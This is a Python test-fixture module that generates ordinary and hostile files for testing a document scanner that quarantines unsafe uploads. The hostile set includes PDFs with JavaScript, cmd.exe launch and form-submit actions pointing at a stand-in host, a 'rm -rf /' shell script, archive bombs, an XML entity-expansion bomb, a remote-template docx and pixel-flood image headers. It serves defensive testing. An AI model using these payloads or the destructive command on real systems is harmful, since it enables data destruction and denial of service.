"""Small real files of many kinds and makers, and the hostile set, made from scratch at test time.

Every sample says what inspection must answer. Nothing here is stored in the repository as a binary: a scanner
on a developer's machine would object to the hostile half, and rightly.
"""

import gzip
import io
import json
import struct
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from odf import opendocument, text
from PIL import Image

from tests.support.corpus_makers import (
    PROSE,
    acting,
    attaching,
    compound,
    corrupted,
    encoded,
    hand_made_pdf,
    letter,
    linux_program,
    lying,
    macro_word,
    many_entries,
    marked_encrypted,
    movie,
    ogg,
    open_document,
    open_sheet,
    overlapping,
    picture,
    png,
    saved,
    slides,
    sound,
    tar,
    tiff_header,
    typeset,
    windows_program,
    word,
    word_parts,
    workbook,
    zipped,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Sample:
    """`reason` is empty when accepted. `maker` names the origin of the bytes."""

    name: str
    data: bytes
    verdict: str
    reason: str = ""
    kind: str = ""
    maker: str = "hand"
    pages: int | None = None


def make_corpus() -> Iterator[Sample]:
    """Every sample: ordinary ones first."""
    yield from make_ordinary()
    yield from make_hostile()


def make_ordinary() -> Iterator[Sample]:
    """Files that must be accepted."""
    for maker in (_pdfs, _images, _texts, _mails, _office, _sounds, _containers):
        for name, data, kind, origin, pages in maker():
            yield Sample(name, data, "accepted", "", kind, origin, pages)


def make_hostile() -> Iterator[Sample]:
    """Files that must be quarantined, each for the one reason given."""
    for maker in (_bad_pdfs, _bad_containers, _bad_images, _bad_others):
        for name, data, reason in maker():
            yield Sample(name, data, "quarantined", reason)


Row = tuple[str, bytes, str, str, int | None]
Bad = tuple[str, bytes, str]


# Ordinary files


def _pdfs() -> Iterator[Row]:
    yield "通知.pdf", typeset("= 通知\n" + PROSE * 30 + "\n#pagebreak()\n" + PROSE), "pdf", "typst", 2
    yield "archival.pdf", typeset("= 归档\n" + PROSE, standard="a-2b"), "pdf", "typst", 1
    yield "blank.PDF", saved(pikepdf.new(), pages=3), "pdf", "pikepdf", 3
    compact = io.BytesIO()
    with pikepdf.open(io.BytesIO(typeset(PROSE))) as pdf:
        pdf.save(compact, object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=True)
    yield "linear.pdf", compact.getvalue(), "pdf", "pikepdf", 1
    yield "scan.pdf", encoded(picture(), "PDF"), "pdf", "Pillow", 1
    yield "by-hand.pdf", hand_made_pdf(), "pdf", "hand", 1
    yield "电子发票.pdf", attaching("发票.xml", f"<发票>{PROSE}</发票>".encode()), "pdf", "pikepdf", 1
    yield "with-annex.pdf", attaching("annex.pdf", attaching("a.csv", b"a,b\n1,2\n")), "pdf", "pikepdf", 1
    yield (
        "about-scripts.pdf",
        hand_made_pdf("/Info << /Title (A page about /JavaScript and /Launch) >>"),
        "pdf",
        "hand",
        1,
    )


def _images() -> Iterator[Row]:
    for name, form, kind in (
        ("照片.jpg", "JPEG", "jpeg"),
        ("photo.jpeg", "JPEG", "jpeg"),
        ("shot.png", "PNG", "png"),
        ("fax.tif", "TIFF", "tiff"),
        ("old.gif", "GIF", "gif"),
        ("paint.bmp", "BMP", "bmp"),
        ("web.webp", "WEBP", "webp"),
    ):
        yield name, encoded(picture(), form), kind, "Pillow", 1
    target = io.BytesIO()
    picture().save(
        target, "TIFF", save_all=True, append_images=[picture(), picture()], compression="tiff_lzw"
    )
    yield "three-pages.tiff", target.getvalue(), "tiff", "Pillow", 3
    yield "grey16.png", encoded(Image.new("I;16", (40, 30), 30_000), "PNG"), "png", "Pillow", 1
    yield "print.jpg", encoded(picture().convert("CMYK"), "JPEG"), "jpeg", "Pillow", 1
    yield "clear.png", encoded(Image.new("RGBA", (60, 40), (10, 20, 30, 100)), "PNG"), "png", "Pillow", 1
    yield "one-pixel.png", png(1, 1, rows=b"\x00\x80"), "png", "zlib", 1


def _texts() -> Iterator[Row]:
    yield "说明.txt", PROSE.encode(), "text", "utf-8", 1
    yield "老系统.txt", PROSE.encode("gb18030"), "text", "gb18030", 1
    yield "notepad.txt", PROSE.encode("utf-16"), "text", "utf-16", 1
    # libmagic takes these for programs of DOS, by their first character and their length.
    yield "金匮.txt", ("金匮要略。" * 8000).encode(), "text", "utf-8", 26
    yield "附件一.csv", ("附件,名称\n" * 6000).encode(), "csv", "utf-8", 158
    yield "复函.txt", "复函：已收悉。\r\n".encode("gb18030"), "text", "gb18030", 1
    # And this for subtitles.
    yield "一二三.txt", "1\r\n这是第一条记录\r\n".encode("utf-16"), "text", "utf-16", 1
    yield "slovak.txt", "Ďalší riadok, ťažký text – žiadosť\n".encode("cp1250") * 20, "text", "cp1250", 1
    yield "bom.txt", PROSE.encode("utf-8-sig"), "text", "utf-8", 1
    yield "ascii.log", b"2026-11-23 09:00:00 started\n" * 50, "text", "hand", 2
    yield "looks-like-code.txt", b"import os\ndef main():\n    return os.name\n" * 5, "text", "hand", 1
    yield (
        "MZ-minutes.txt",
        b"MZ was present at the meeting, and so was everyone else who had to be there.\n",
        "text",
        "hand",
        1,
    )
    yield "名册.csv", "工号,姓名,单位\n0001,张三,城东营业厅\n".encode("gbk"), "csv", "gbk", 1
    yield "table.csv", b"a,b,c\r\n1,2,3\r\n", "csv", "hand", 1
    yield "data.json", json.dumps({"全宗": "0042", "件": [1, 2, 3]}).encode(), "json", "json", 1
    yield (
        "meta.xml",
        f'<?xml version="1.0" encoding="UTF-8"?><档案><件>{PROSE}</件></档案>'.encode(),
        "xml",
        "hand",
        1,
    )
    yield "no-namespace.xml", b"<a><xi:include href='b.xml'/></a>", "xml", "hand", 1
    yield "gb.xml", '<?xml version="1.0" encoding="GB2312"?><a>档案</a>'.encode("gb2312"), "xml", "hand", 1
    yield "letter.rtf", rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0\fs24 Dear Sir\par}", "rtf", "hand", None


def _mails() -> Iterator[Row]:
    yield "来函.eml", letter().as_bytes(), "eml", "email", 1
    with_paper = letter()
    with_paper.add_attachment(typeset(PROSE), maintype="application", subtype="pdf", filename="附件.pdf")
    yield "with-attachment.eml", with_paper.as_bytes(), "eml", "email", 1
    rich = letter()
    rich.add_alternative(f"<html><body><p>{PROSE}</p></body></html>", subtype="html")
    headers = "From: a@example.org\nSubject: 通知\nContent-Type: multipart/mixed; boundary=b\n\n".encode(
        "gb18030"
    )
    part = '--b\nContent-Type: text/plain; charset="{}"\nContent-Transfer-Encoding: 8bit\n\n'
    yield (
        "mixed-encodings.eml",
        headers
        + part.format("utf-8").encode()
        + "正文一。\n".encode()
        + part.format("iso-8859-2").encode()
        + "Ďalší riadok\n".encode("iso-8859-2")
        + b"--b--\n",
        "eml",
        "hand",
        1,
    )
    yield "rich.eml", rich.as_bytes(), "eml", "email", 1


def _office() -> Iterator[Row]:
    yield "报告.docx", word(), "docx", "python-docx", 1
    yield "台账.xlsx", workbook(), "xlsx", "openpyxl", 1
    yield "slides.pptx", slides(), "pptx", "zipfile", 1
    yield "note.odt", open_document(opendocument.OpenDocumentText(), text.P(text=PROSE)), "odt", "odfpy", 1
    yield "sheet.ods", open_sheet(), "ods", "odfpy", 1
    yield "talk.odp", open_document(opendocument.OpenDocumentPresentation(), None), "odp", "odfpy", 1
    yield "old.doc", compound("WordDocument", "1Table"), "doc", "hand", None
    yield "old.xls", compound("Workbook"), "xls", "hand", None
    yield "old.ppt", compound("PowerPoint Document"), "ppt", "hand", None


def _sounds() -> Iterator[Row]:
    yield "录音.wav", sound(), "wav", "wave", None
    yield (
        "call.mp3",
        b"\xff\xfb\x90\x00" + bytes(413) + (b"\xff\xfb\x90\x00" + bytes(413)) * 4,
        "mp3",
        "hand",
        None,
    )
    yield (
        "tagged.mp3",
        b"ID3\x03\x00\x00\x00\x00\x00\x0a" + bytes(10) + b"\xff\xfb\x90\x00" + bytes(413),
        "mp3",
        "hand",
        None,
    )
    yield "call.ogg", ogg(b"\x01vorbis" + bytes(23)), "ogg", "hand", None
    yield "call.opus", ogg(b"OpusHead\x01\x01" + bytes(9)), "ogg", "hand", None
    yield (
        "call.flac",
        b"fLaC\x80\x00\x00\x22\x10\x00\x10\x00" + bytes(6) + b"\x0a\xc4\x42\xf0" + bytes(40),
        "flac",
        "hand",
        None,
    )
    yield "phone.amr", b"#!AMR\n" + bytes(64), "amr", "hand", None
    yield "voice.m4a", movie(b"M4A "), "m4a", "hand", None
    yield "voice-only.m4a", movie(b"isom"), "m4a", "hand", None
    yield "clip.mp4", movie(b"mp42"), "mp4", "hand", None


def _containers() -> Iterator[Row]:
    yield "归档.zip", zipped({"a.txt": b"one" * 100, "文件/b.pdf": hand_made_pdf()}), "zip", "zipfile", None
    yield "with-office.zip", zipped({"报告.docx": word(), "x.bin": bytes(range(256))}), "zip", "zipfile", None
    yield "empty-inside.zip", zipped({}), "zip", "zipfile", None
    yield (
        "invoice.ofd",
        zipped({"OFD.xml": b"<?xml version='1.0'?><OFD/>", "Doc_0/Document.xml": b"<D/>"}),
        "ofd",
        "zipfile",
        None,
    )
    book = {"mimetype": b"application/epub+zip", "META-INF/container.xml": b"<container/>"}
    yield "manual.epub", zipped(book, stored=True), "epub", "zipfile", None


# Hostile files


def _bad_pdfs() -> Iterator[Bad]:
    yield (
        "locked.pdf",
        saved(pikepdf.new(), encryption=pikepdf.Encryption(owner="o", user="u")),
        "encrypted_pdf",
    )
    yield (
        "restricted.pdf",
        saved(pikepdf.new(), encryption=pikepdf.Encryption(owner="o", user="")),
        "encrypted_pdf",
    )
    for name, action, reason in (
        ("script", {"/S": "/JavaScript", "/JS": "app.alert(1)"}, "scripted_pdf"),
        ("launch", {"/S": "/Launch", "/F": "cmd.exe"}, "pdf_launch_action"),
        ("submit", {"/S": "/SubmitForm", "/F": "http://collector.invalid/"}, "pdf_launch_action"),
        ("import", {"/S": "/ImportData", "/F": "x.fdf"}, "pdf_launch_action"),
        ("goto-embedded", {"/S": "/GoToE"}, "pdf_embedded_file"),
    ):
        yield f"{name}.pdf", acting(action), reason
        yield f"{name}-packed.pdf", acting(action, packed=True), reason
    yield (
        "escaped-name.pdf",
        hand_made_pdf("", catalog="/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "scripted_pdf",
    )
    for name, reason in (
        ("Launch", "pdf_launch_action"),
        ("SubmitForm", "pdf_launch_action"),
        ("ImportData", "pdf_launch_action"),
        ("GoToE", "pdf_embedded_file"),
        ("JavaScript", "scripted_pdf"),
    ):
        yield (
            f"indirect-{name}.pdf",
            hand_made_pdf("", catalog="/OpenAction << /F (cmd.exe) /S 4 0 R >>", more=(f"/{name}",)),
            reason,
        )
    yield "form.pdf", hand_made_pdf("", catalog="/AcroForm << /Fields [] /XFA (x) >>"), "scripted_pdf"
    yield (
        "annotated.pdf",
        hand_made_pdf("", page="/Annots [ << /Subtype /RichMedia >> ]"),
        "pdf_embedded_file",
    )
    for name, inside, reason in (
        ("setup.txt", windows_program(), "unsafe_attachment"),
        ("inner.pdf", acting({"/S": "/JavaScript", "/JS": "app.alert(1)"}), "unsafe_attachment"),
        ("papers.zip", zipped({"a.txt": b"a"}), "pdf_embedded_file"),
        ("page.html", b"<html><script>1</script></html>", "pdf_embedded_file"),
        ("call.wav", sound(), "pdf_embedded_file"),
        ("empty.txt", b"", "pdf_embedded_file"),
        ("noise.dat", bytes(range(256)) * 40, "pdf_embedded_file"),
        ("picture.txt", encoded(picture(), "PNG"), "pdf_embedded_file"),
        ("a/b.txt", b"inside", "pdf_embedded_file"),
    ):
        yield f"attached-{name.replace('/', '-')}.pdf", attaching(name, inside), reason
    yield (
        "attached-without-a-name.pdf",
        attaching("发票.xml", b"<a/>").replace(b"/EF ", b"/XX "),
        "pdf_embedded_file",
    )
    whole = typeset(PROSE * 20)
    yield "cut-off.pdf", whole[: len(whole) // 2], "malformed_pdf"
    yield "cut-at-the-end.pdf", whole[:-40], "malformed_pdf"
    yield "header-only.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "malformed_pdf"
    yield (
        "no-pages.pdf",
        hand_made_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids []      /Count 0"),
        "malformed_pdf",
    )
    yield "deep.pdf", hand_made_pdf("", catalog="/JS " + "[" * 5000 + "]" * 5000), "malformed_pdf"


def _bad_containers() -> Iterator[Bad]:
    yield "bomb.zip", zipped({"zeros": bytes(64 << 20)}), "archive_bomb"
    yield "many.zip", many_entries(12_000), "archive_bomb"
    yield "overlap.zip", overlapping(), "archive_bomb"
    yield "liar.zip", lying(), "archive_bomb"
    yield "bomb.docx", zipped({**word_parts(), "word/media/x.bin": bytes(64 << 20)}), "archive_bomb"
    yield "nested.zip", zipped({"inner.zip": zipped({"a.txt": b"a"})}), "nested_archive"
    yield "nested-renamed.zip", zipped({"harmless.dat": zipped({"a.txt": b"a"})}), "nested_archive"
    yield "nested-gz.zip", zipped({"a.gz": gzip.compress(b"a", mtime=0)}), "nested_archive"
    yield "nested-tar.zip", zipped({"a.tar": tar()}), "nested_archive"
    yield "program.zip", zipped({"setup.exe": windows_program()}), "executable"
    yield "macro-inside.zip", zipped({"x.docm": macro_word()}), "unsafe_attachment"
    yield "locked.zip", marked_encrypted(zipped({"a.txt": b"secret" * 10})), "encrypted_archive"
    yield "cut.zip", zipped({"a.txt": b"a" * 1000})[:-30], "malformed_file"
    paper = open_document(opendocument.OpenDocumentText(), text.P(text=PROSE))
    yield "lost-a-byte.odt", paper[:20] + paper[21:], "malformed_file"
    upper, lower = word_parts(), {name.lower(): part for name, part in word_parts().items()}
    yield "two-readings.docx", zipped({**upper, **lower}), "malformed_file"
    yield "macro-in-other-spelling.docx", zipped({**lower, "word\\VBAProject.bin": b"x"}), "macros"
    yield "corrupt.zip", corrupted(zipped({"a.txt": PROSE.encode() * 100})), "malformed_file"
    yield (
        "app.zip",
        zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "executable",
    )
    yield (
        "library.jar",
        zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        "executable",
    )
    yield "macros.docm", macro_word(), "macros"
    yield "macros.docx", macro_word(), "macros"
    yield (
        "basic.odt",
        zipped(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/M.xml": b"<x/>"},
            stored=True,
        ),
        "macros",
    )
    yield (
        "locked.odt",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": b"<m:encryption-data/>",
            },
            stored=True,
        ),
        "encrypted_office",
    )
    yield (
        "template.docx",
        zipped({**word_parts(), "word/_rels/settings.xml.rels": _REMOTE_TEMPLATE}),
        "external_reference",
    )
    yield (
        "package.docx",
        zipped({**word_parts(), "word/embeddings/o.bin": compound("\x01Ole10Native")}),
        "embedded_object",
    )
    yield "locked.docx", compound("EncryptionInfo", "EncryptedPackage"), "encrypted_office"
    yield "macros.doc", compound("WordDocument", "Macros", "VBA", "_VBA_PROJECT"), "macros"
    yield "setup.msi", compound("SummaryInformation"), "unlisted_type"


def _bad_images() -> Iterator[Bad]:
    yield "flood.png", png(60_000, 60_000, rows=b""), "pixel_flood"
    yield "flood.tif", tiff_header(50_000, 50_000), "pixel_flood"
    yield (
        "flood.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 50_000, 50_000, 1, 24, 0, 0, 0, 0, 0, 0),
        "pixel_flood",
    )
    yield (
        "flood.gif",
        b"GIF89a"
        + struct.pack("<HH", 65_000, 65_000)
        + b"\x00\x00\x00\x2c"
        + struct.pack("<HHHHB", 0, 0, 65_000, 65_000, 0)
        + b"\x02\x00\x3b",
        "pixel_flood",
    )
    yield "cut.png", encoded(picture(), "PNG")[:-200], "malformed_file"
    photo = encoded(picture(), "JPEG")
    yield "cut.jpg", photo[: len(photo) // 2], "malformed_file"


def _bad_others() -> Iterator[Bad]:
    yield "empty.pdf", b"", "empty_file"
    yield "setup.exe", windows_program(), "executable"
    yield "invoice.pdf", windows_program(), "executable"
    yield "tool.jpg", linux_program(), "executable"
    yield "run.txt", b"#!/bin/sh\nrm -rf /\n", "executable"
    yield "page.html", b"<!DOCTYPE html><html><body>hi</body></html>", "active_content"
    yield "page.txt", b"<html><script>alert(1)</script></html>", "active_content"
    yield "drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "active_content"
    yield (
        "drawing.xml",
        b'<?xml version="1.0"?><x:svg xmlns:x="http://www.w3.org/2000/svg"/>',
        "active_content",
    )
    yield "laughs.xml", b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', "active_content"
    yield "broken.xml", b'<?xml version="1.0"?><a><b></a>', "malformed_file"
    yield "broken.json", b'{"a": ', "malformed_file"
    yield "deep.json", b"[" * 200_000, "malformed_file"
    yield "photo.png", encoded(picture(), "JPEG"), "extension_mismatch"
    yield "paper.docx", typeset(PROSE), "extension_mismatch"
    yield "paper.pdf", PROSE.encode(), "extension_mismatch"
    yield "sound.mp3", sound(), "extension_mismatch"
    yield "no-extension", typeset(PROSE), "extension_mismatch"
    yield (
        "template.ott",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text-template"}),
        "unlisted_type",
    )
    yield "script.py", b"print('hello')\n", "unlisted_type"
    yield "noise.bin", bytes(range(256)) * 40, "unlisted_type"
    yield "archive.gz", gzip.compress(PROSE.encode(), mtime=0), "unlisted_type"
    yield "archive.rar", b"Rar!\x1a\x07\x01\x00" + bytes(50), "unlisted_type"
    yield "object.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "embedded_object"
    yield "cut.wav", sound()[:1000], "malformed_file"
    for name, data in (
        ("program.exe", windows_program()),
        ("macro.docm", macro_word()),
        ("locked.pdf", dict_of(_bad_pdfs)["locked.pdf"]),
    ):
        mail = letter()
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
        yield f"{name}.eml", mail.as_bytes(), "unsafe_attachment"
    yield "not-a-mail.eml", PROSE.encode(), "malformed_file"


_REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r" TargetMode="External" Target="https://templates.invalid/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def dict_of(maker: object) -> dict[str, bytes]:
    """Name to bytes of one of the makers above."""
    return {row[0]: row[1] for row in maker()}  # type: ignore[operator]
